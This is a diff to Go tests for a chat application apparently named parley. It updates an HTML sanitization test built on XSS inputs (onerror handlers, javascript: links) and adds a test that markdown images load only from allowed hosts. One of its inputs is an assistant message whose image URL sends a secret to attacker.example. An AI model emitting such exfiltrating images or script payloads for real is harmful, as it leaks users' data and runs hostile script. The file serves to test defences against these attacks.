@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/parley-dev/parley/config"
 	"github.com/parley-dev/parley/internal/testserver"
 )
 
@@ -31,9 +32,12 @@ func TestSanitization(t *testing.T) {
 		},
 		{
 			name: "event handler attribute", in: `<img src=x onerror="alert(1)"> and <a href="javascript:alert(2)">x</a>`,
-			content:    `&lt;img src=x onerror=&#34;alert(1)&#34;&gt; and &lt;a href=&#34;javascript:alert(2)&#34;&gt;x&lt;/a&gt;`,
-			text:       `<img src=x onerror="alert(1)"> and <a href="javascript:alert(2)">x</a>`,
-			htmlHasNot: []string{"onerror", "javascript:", "<img"},
+			content: `&lt;img src=x onerror=&#34;alert(1)&#34;&gt; and &lt;a href=&#34;javascript:alert(2)&#34;&gt;x&lt;/a&gt;`,
+			text:    `<img src=x onerror="alert(1)"> and <a href="javascript:alert(2)">x</a>`,
+			// Shown as the text it is: no element, so no attribute (xss_test.go parses the
+			// html of a corpus of such inputs to check that).
+			htmlHas:    []string{`&lt;img src=x onerror=&#34;alert(1)&#34;&gt; and &lt;a href=&#34;javascript:alert(2)&#34;&gt;x&lt;/a&gt;`},
+			htmlHasNot: []string{"<img", "<a "},
 		},
 		{
 			name: "markdown link with javascript url", in: `[click](javascript:alert(1)) and [ok](https://example.com)`,
@@ -123,5 +127,26 @@ func TestToolOutputTruncated(t *testing.T) {
 	}
 	if n["output"].(map[string]any)["ok"] != true {
 		t.Errorf("small output changed: %v", n["output"])
+	}
+}
+
+// TestImageHostsSetting: message html loads images only from the hosts
+// render.image_hosts allows; by default every image is a link.
+func TestImageHostsSetting(t *testing.T) {
+	t.Parallel()
+	cfg := config.Default()
+	cfg.Render.ImageHosts = []string{"img.example.com"}
+	servers := map[string]*testserver.Server{"default": testserver.New(t), "allowed": testserver.NewWith(t, testserver.Options{Config: &cfg})}
+	const text = "![ok](https://img.example.com/a.png) ![leak](https://attacker.example/?secret=s3cret)"
+	for name, srv := range servers {
+		conv := srv.CreateConversation(t, "images")
+		_, n := addFull(t, srv, conv, testserver.Text("ASSISTANT", text))
+		html, _ := n["html"].(string)
+		if !strings.Contains(html, `<a href="https://attacker.example/?secret=s3cret" rel="nofollow">leak</a>`) || strings.Contains(html, `<img src="https://attacker.example`) {
+			t.Errorf("%s: html %q, want the attacker's image as a link", name, html)
+		}
+		if got, want := strings.Contains(html, `<img src="https://img.example.com/a.png" alt="ok">`), name == "allowed"; got != want {
+			t.Errorf("%s: html %q, want the allowed host's image inline: %v", name, html, want)
+		}
 	}
 }
